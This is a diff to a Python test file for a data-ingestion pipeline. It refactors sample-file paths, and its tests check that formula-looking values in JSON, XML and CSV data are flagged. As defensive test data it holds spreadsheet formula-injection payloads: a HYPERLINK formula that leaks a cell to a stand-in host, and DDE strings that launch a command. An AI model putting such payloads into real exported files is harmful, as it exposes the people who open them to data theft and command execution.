@@ -13,9 +13,13 @@ from ingestion.mapper import MappingStats, iter_items, map_item
 from ingestion.readers import iter_records
 from ingestion.run import plan_files
 
-SAMPLES = Path(__file__).resolve().parents[1] / "fixtures" / "producers"
 FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Cliquez ici")'
 WARNING = "formula-looking cell: never evaluated"
+
+
+def samples(slug: str) -> Path:
+    """A producer's sample files and what they map to (`producers/<slug>/samples/`)."""
+    return mapping.PRODUCERS_DIR / mapping.folder_name(slug) / "samples"
 
 
 def _issues(slug: str, path: Path) -> list[list[tuple[str, str | None, str | None]]]:
@@ -32,7 +36,7 @@ def _issues(slug: str, path: Path) -> list[list[tuple[str, str | None, str | Non
 
 
 def test_json_values_that_look_like_formulas_are_flagged(tmp_path: Path) -> None:
-    doc = json.loads((SAMPLES / "cd35" / "annuaire.json").read_text(encoding="utf-8"))
+    doc = json.loads((samples("cd35") / "annuaire.json").read_text(encoding="utf-8"))
     doc["features"][0]["attributes"]["ORG_NOM"] = FORMULA
     doc["features"][1]["attributes"]["ORG_TEL"] = "+33 2 99 00 00 00"  # a phone: not a formula
     doc["features"][1]["attributes"]["ORG_DESC"] = "-cmd|' /C calc'!A0"  # a DDE call
@@ -47,7 +51,7 @@ def test_json_values_that_look_like_formulas_are_flagged(tmp_path: Path) -> None
 
 
 def test_xml_values_that_look_like_formulas_are_flagged(tmp_path: Path) -> None:
-    text = (SAMPLES / "carif-oref" / "formations.xml").read_text(encoding="utf-8")
+    text = (samples("carif-oref") / "formations.xml").read_text(encoding="utf-8")
     text = text.replace(
         "<intitule-formation>Apprendre le français</intitule-formation>",
         "<intitule-formation>@SUM(1+1)*cmd|' /C calc'!A0</intitule-formation>",
@@ -61,7 +65,7 @@ def test_xml_values_that_look_like_formulas_are_flagged(tmp_path: Path) -> None:
 
 def test_csv_cells_keep_their_single_warning(tmp_path: Path) -> None:
     """The CSV reader flags its cells itself: the mapper adds no second warning."""
-    source = SAMPLES / "france-travail"
+    source = samples("france-travail")
     csv_file = next(p for p in source.iterdir() if p.suffix == ".csv")
     lines = csv_file.read_text(encoding="cp1252").splitlines()
     delimiter = ";" if lines[0].count(";") > lines[0].count(",") else ","
